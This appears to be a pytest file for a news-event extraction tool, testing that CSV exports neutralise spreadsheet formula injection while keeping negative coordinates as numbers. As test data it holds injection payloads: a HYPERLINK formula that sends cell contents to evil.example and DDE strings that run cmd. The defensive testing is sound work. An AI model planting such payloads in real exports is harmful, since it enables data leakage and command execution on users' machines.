"""CSV injection: text taken from articles never reaches a spreadsheet as a formula.

An outlet name from a page's ``og:site_name`` or an evidence sentence can start with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list); every CSV sitrep writes
prefixes such a text cell with ``'`` and leaves numbers (negative coordinates) as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import sitrep
from sitrep.cli import app
from sitrep.export import ExportFormat, export_events, with_stored_at
from sitrep.export.acled import COLUMNS, acled_row
from sitrep.export.writers import PARQUET_SCHEMA, write_csv
from sitrep.resolve.gazetteer import Gazetteer, open_gazetteer
from sitrep.store import EventQuery, Store, StoredEvent, iter_events
from tests.resolve.conftest import gazetteer, gazetteer_path
from tests.store.conftest import event, record

__all__ = ["gazetteer", "gazetteer_path"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"outlet")'
PAYLOADS = (
    OUTLET,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TEXT = "=1+1 Shelling killed three people in Santiago on Tuesday, officials said."
LAT, LON = -33.45694, -70.64827


def hostile_event() -> dict[str, Any]:
    """An event whose every free-text field starts like a formula, at a point with negative
    latitude and longitude."""
    data = event(
        "@e1",
        type="battles",
        place=("-Santiago", LAT, LON),
        country="=C",
        admin1="+9",
        precision="@exact",
        actors=("=Army", "-Rebels"),
        by="+Spokesman",
        killed=3,
        evidence=(0, len(TEXT)),
    )
    data.update(subtype="\t=armed_clash", plover="\r=FIGHT", date_precision="@day")
    data["location"]["text"] = "\r=Santiago"
    data["actor1"]["kind"] = "=state_forces"
    data["actor2"]["country"] = "-Z"
    return data


@pytest.fixture
def hostile_store(tmp_path: Path) -> tuple[str, list[StoredEvent]]:
    location = str(tmp_path / "store.db")
    with Store(location) as store:
        store.add(record("-a1", hostile_event(), text=TEXT, outlet=OUTLET))
        return location, list(iter_events(store, EventQuery()))


def assert_neutralised(
    text: str, expected_rows: Sequence[dict[str, Any]], columns: Sequence[str]
) -> set[str]:
    """Every cell of ``text`` is its expected value, a text starting like a formula with ``'``
    before it; returns the columns that held such a text."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0]) == list(columns)
    hostile: set[str] = set()
    for row, expected in zip(rows, expected_rows, strict=True):
        for column in columns:
            value, cell = expected[column], row[column]
            if isinstance(value, str) and value.startswith(TRIGGERS):
                assert cell == "'" + value, column
                hostile.add(column)
            else:
                assert cell == ("" if value is None else str(value)), column
    return hostile


def test_acled_csv_neutralises_the_outlet_and_every_text_cell(
    hostile_store: tuple[str, list[StoredEvent]], tmp_path: Path, gazetteer: Gazetteer
) -> None:
    _, events = hostile_store
    path = tmp_path / "events.csv"
    assert export_events(events, ExportFormat.acled, path, gazetteer=gazetteer) == 1
    expected = [row for data in events if (row := acled_row(data, gazetteer)) is not None]
    hostile = assert_neutralised(path.read_text(encoding="utf-8"), expected, COLUMNS)
    assert {"source", "notes", "actor1", "actor2", "location", "sub_event_type"} <= hostile
    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert row["source"] == "'" + OUTLET
    assert (row["latitude"], row["longitude"]) == (str(LAT), str(LON))


def test_events_csv_neutralises_every_text_cell_and_keeps_negative_coordinates(
    hostile_store: tuple[str, list[StoredEvent]],
) -> None:
    location, events = hostile_store
    result = CliRunner().invoke(app, ["events", "--db", location, "--format", "csv"])
    assert result.exit_code == 0, result.output
    with Store(location) as store:  # the columns of the ACLED export, as the command fills them
        stored = list(with_stored_at(store, events))
    gazetteer = open_gazetteer()
    expected = [row for data in stored if (row := acled_row(data, gazetteer)) is not None]
    hostile = assert_neutralised(result.stdout, expected, COLUMNS)
    assert {"source", "notes", "actor1", "location", "sub_event_type"} <= hostile
    row = next(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert (row["latitude"], row["longitude"]) == (str(LAT), str(LON))


@pytest.mark.parametrize(
    "columns", [COLUMNS, PARQUET_SCHEMA.names], ids=["acled-columns", "flat-columns"]
)
def test_every_column_of_every_csv_neutralises_formulas_and_keeps_numbers(
    columns: Sequence[str],
) -> None:
    for payload in PAYLOADS:
        assert _written(columns, dict.fromkeys(columns, payload)) == {
            column: "'" + payload for column in columns
        }
    for number in (-70.64827, -3, 0.5):
        assert _written(columns, dict.fromkeys(columns, number)) == dict.fromkeys(
            columns, str(number)
        )
    dates = _written(columns, dict.fromkeys(columns, "2024-03-05"))
    assert dates == dict.fromkeys(columns, "2024-03-05")


def _written(columns: Sequence[str], row: dict[str, Any]) -> dict[str, str]:
    handle = io.StringIO(newline="")
    write_csv(handle, columns, [row])
    return next(csv.DictReader(io.StringIO(handle.getvalue(), newline="")))


def test_no_module_writes_csv_but_the_one_that_neutralises() -> None:
    """A new CSV output must go through ``write_csv``, not a csv writer of its own."""
    package = Path(sitrep.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert writers == {"export/writers.py"}
